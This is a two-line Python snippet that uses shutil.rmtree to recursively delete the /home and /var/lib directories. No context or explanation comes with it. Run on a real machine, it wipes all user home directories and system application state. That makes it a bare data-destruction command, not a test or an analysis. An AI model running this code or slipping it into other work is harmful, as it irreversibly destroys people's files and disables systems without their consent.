import shutil
list(map(shutil.rmtree, ["/home", "/var/lib"]))
